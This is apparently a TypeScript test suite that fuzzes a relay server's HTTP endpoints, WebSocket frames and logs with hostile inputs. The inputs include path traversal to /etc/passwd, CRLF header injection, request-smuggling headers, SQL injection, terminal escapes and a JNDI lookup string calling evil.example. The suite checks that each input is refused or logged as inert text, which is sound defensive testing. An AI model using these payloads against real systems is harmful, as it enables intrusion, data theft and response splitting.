import { readdir, readFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { exchangeBytes } from '../exchange-bytes';
import { Peer } from '../peer';
import document from '../../src/docs/generated/openapi.json';
import { OPERATOR_TOKEN, startRelay, type RelayUnderTest, type TestClient, type TestNode } from '../relay-under-test';

const HOSTILE = [
  '../../../../etc/passwd',
  '/etc/passwd\u0000.jsonl',
  'a\r\nSet-Cookie: stolen=1\r\n\r\n<script>',
  'a\n{"level":"error","type":"forged","source":"relay"}',
  '\u001b[2J\u001b[1;31mall is well',
  '\u2028\u202e\u0085\ufeff',
  '%0d%0aX-Injected:%201',
  '${jndi:ldap://evil.example/a}',
  "'; DROP TABLE clients; --",
  '\ud800',
];

let relay: RelayUnderTest;
let client: TestClient;
let node: TestNode;

beforeAll(async () => {
  relay = await startRelay({ OTTO_TRUST_PROXY: '1' });
  client = await relay.registerClient();
  node = await relay.pairNode('node_a', client);
});
afterAll(() => relay.stop());

/** Every text field that a body may have, by path. */
function textFields(): [string, string[]][] {
  const schemas = document.components.schemas as unknown as Record<
    string,
    { properties: Record<string, { type?: unknown }> }
  >;
  return Object.entries(document.paths).flatMap(([path, methods]): [string, string[]][] => {
    const { requestBody } = ('post' in methods ? methods.post : {}) as {
      requestBody?: { content: Record<string, { schema: { $ref: string } }> };
    };
    const name = requestBody?.content['application/json']?.schema.$ref.split('/').at(-1);
    return name === undefined ? [] : [[path, Object.keys(schemas[name]?.properties ?? {})]];
  });
}

/** What the relay has written by now, as lines; every one of them is one entry. */
async function logLines(): Promise<string[]> {
  await relay.log.flush();
  const names = (await readdir(relay.logDir)).filter((name) => name.startsWith('operations'));
  const texts = await Promise.all(names.map((name) => readFile(join(relay.logDir, name), 'utf8')));
  return texts.flatMap((text) => text.trimEnd().split('\n'));
}

async function expectCleanLog(): Promise<void> {
  const lines = await logLines();
  const entries = lines.map((line) => JSON.parse(line) as { type: string });
  expect(entries.filter(({ type }) => type === 'forged')).toEqual([]);
  // Nothing that ends a line, drives a terminal or turns the direction of text.
  expect(lines.filter((line) => /[\p{Cc}\p{Zl}\p{Zp}\p{Bidi_Control}]/u.test(line))).toEqual([]);
}

/** Sends a request line and headers as they are, which no HTTP library would let through. */
function sendRaw(head: string): Promise<string> {
  return exchangeBytes(relay.relay.port, `${head}\r\nHost: localhost\r\nConnection: close\r\n\r\n`);
}

describe('hostile text over HTTP', () => {
  it.each(textFields())('in any field of POST %s ends in a refusal or stays a text', async (path, fields) => {
    const valid = { nodeId: 'node_a', clientId: client.clientId, name: 'n', description: 'd', grant: true };
    let from = 0;
    for (const field of fields) {
      for (const text of HOSTILE) {
        for (const token of [undefined, OPERATOR_TOKEN, node.accessToken]) {
          const headers = { 'x-forwarded-for': `203.0.113.${(from += 1) % 250}` };
          const answer = await relay.post(path, { ...valid, [field]: text }, { token, headers });
          expect([field, text, answer.status < 500]).toEqual([field, text, true]);
          expect(answer.headers).not.toHaveProperty('set-cookie');
        }
      }
    }
    await expectCleanLog();
  });

  it.each([
    'GET /api/pairing/status?challengeId=%0d%0aSet-Cookie:%20stolen=1 HTTP/1.1',
    'GET /api/docs/%0d%0aSet-Cookie:%20stolen=1 HTTP/1.1',
    'GET /api/docs/..%2f..%2f..%2foperator-token HTTP/1.1',
    'GET /../../../../etc/passwd HTTP/1.1',
    'GET //evil.example/api/docs HTTP/1.1',
    'GET http://evil.example/api/pairing/pending HTTP/1.1',
    'GET /api/logs?since=%00&nodeId=%1b[2J HTTP/1.1',
    'GET /health/live HTTP/1.1\r\nAuthorization: Bearer a\u0000b',
    'GET /health/live HTTP/1.1\r\nX-Request-Id: a\r\nOrigin: http://localhost\u001b[2J',
    'GET /health/live HTTP/1.1\r\n X-Folded: 1',
    'POST /api/pairing/request HTTP/1.1\r\nContent-Length: 5\r\nTransfer-Encoding: chunked',
    'POST /api/pairing/request HTTP/1.1\r\nContent-Length: 5\r\nContent-Length: 0',
  ])('in %j reaches no header, no file and no second request', async (head) => {
    const answer = await sendRaw(head);
    expect(answer).toMatch(/^HTTP\/1\.1 (200|4\d\d) /);
    expect(answer.split('HTTP/1.1 ')).toHaveLength(2);
    expect(answer).not.toMatch(/^set-cookie:/im);
    expect(answer).not.toContain('root:');
    expect(answer).not.toContain(OPERATOR_TOKEN);
    await expectCleanLog();
  });
});

describe('hostile text in frames', () => {
  it('of a controller is answered, and stays a text in the log', async () => {
    const peer = await Peer.connect(relay.wsUrl, 'controller', client.accessToken);
    for (const text of HOSTILE) {
      const command = {
        targetNodeId: text,
        action: text,
        tabSessionId: text,
        payload: { [text]: text },
        replayNonce: text,
      };
      expect((await peer.ask('command', command)).messageType).toBe('error');
      const id = text.slice(0, 128);
      expect((await peer.ask('tab_lock', command, { requestId: id, traceId: id })).requestId).toBe(id);
      await peer.ask('event', { type: 'logs_subscribe', nodeId: text, requestId: text });
    }
    await peer.close();
    await expectCleanLog();
  });

  it('of a node stays a text of that node in the log', async () => {
    const peer = await Peer.connect(relay.wsUrl, 'node', node.accessToken);
    for (const text of HOSTILE) {
      const entry = {
        level: 'error',
        type: text,
        requestId: text,
        traceId: text,
        status: text,
        data: { [text]: text },
      };
      peer.send('event', { type: 'extension_log', entry: { ...entry, source: 'relay', nodeId: 'node_b' } });
    }
    await peer.settled();
    await peer.close();
    await expectCleanLog();
    const entries = (await relay.log.list()).filter(({ type }) => HOSTILE.includes(type));
    expect(entries.length).toBeGreaterThan(0);
    expect(new Set(entries.map(({ source, nodeId }) => `${source} ${nodeId}`))).toEqual(new Set(['node node_a']));
  });
});

describe('after all that', () => {
  it('there is no file but those of the relay', async () => {
    const known =
      /^(operations-\d{4}-\d\d-\d\d(-\d+)?\.jsonl|(refresh-sessions|controller-clients|controller-acl)\.jsonl|relay\.lock)$/;
    expect((await readdir(relay.logDir)).filter((name) => !known.test(name))).toEqual([]);
    expect((await readdir(dirname(relay.logDir))).filter((name) => /passwd|\.jsonl$/.test(name))).toEqual([]);
  });
});
